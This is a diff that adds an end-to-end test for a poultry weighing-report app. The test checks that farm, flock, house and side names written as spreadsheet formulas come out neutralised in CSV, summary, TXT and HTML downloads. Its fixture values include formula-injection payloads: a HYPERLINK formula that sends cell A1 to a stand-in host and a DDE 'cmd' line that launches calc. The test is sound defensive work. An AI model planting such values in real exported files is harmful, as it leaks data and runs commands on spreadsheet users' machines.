@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { TestAccount } from '../packages/server/src/test/factories.js';
 import { createNucleo, grantAccess } from '../packages/server/src/test/factories/farms.js';
@@ -268,6 +269,36 @@ describe('weighing reports (aves, aves-incubatorio)', () => {
     await refused.getByRole('button', { name: text('pt', 'reports.dismiss') }).click();
     await refused.waitFor({ state: 'detached' });
     await page.unroute('**/api/v2/resumo?**');
+  });
+
+  it('aves: farm, flock, house and side named like spreadsheet formulas come out defused in every download', async () => {
+    const page = await e2e.newPage(DESKTOP, 'pt');
+    const account = await signedIn(e2e, page);
+    const names = { farm: '=HYPERLINK("http://x.test/?"&A1;"ver")', flock: "+cmd|' /C calc'!A0", house: '@SUM(1+1)', side: '-2+3' };
+    const farm = await createNucleo(e2e.portal, account, { nome: names.farm });
+    const lote = await createLote(e2e.portal, account, farm, { codigo: names.flock });
+    await createPesagens(e2e.portal, account, { nucleo: farm, lote, rows: [1900, 2000, 2100].map((peso) => ({ peso, data: DAY, aviario: names.house, lado: names.side, box: '1', sexo: 'Macho' })) });
+    const report = new WeighingReportPage(page);
+    await report.goto(`nucleo=${farm.id}&lote=${lote.id}&inicio=${addDays(DAY, -1)}&fim=${DAY}`);
+    await report.settled();
+    expect(await report.boxes().count()).toBe(1);
+
+    // A cell a spreadsheet would run: a formula start that is not a plain number.
+    const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:[.,]\d+)*$/.test(cell);
+    for (const format of ['csv', 'summary'] as const) {
+      const cells = parse((await report.download(format)).text, { delimiter: ';', bom: true }) as string[][];
+      expect(cells.flat().filter(runnable), format).toEqual([]);
+      for (const name of Object.values(names)) expect(cells.flat(), format).toContain(`'${name}`);
+    }
+    const txt = (await report.download('txt')).text;
+    const html = (await report.download('html')).text;
+    // TXT: aligned columns (two spaces or more apart), as a spreadsheet's column import splits them; the rules under the title and header are the report's own.
+    const columns = txt.split('\r\n').filter((line) => !/^(=+|-+)$/.test(line)).flatMap((line) => line.split(/ {2,}/));
+    expect(columns.filter(runnable)).toEqual([]);
+    for (const name of Object.values(names)) {
+      expect(columns, name).toContain(`'${name}`);
+      expect(html).toContain(`<td>&#39;${name.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll("'", '&#39;')}</td>`);
+    }
   });
 
   it('aves: the printed layout is 4 boxes a page (9 boxes → 3 PDF pages) under the title, logo and scales', async () => {
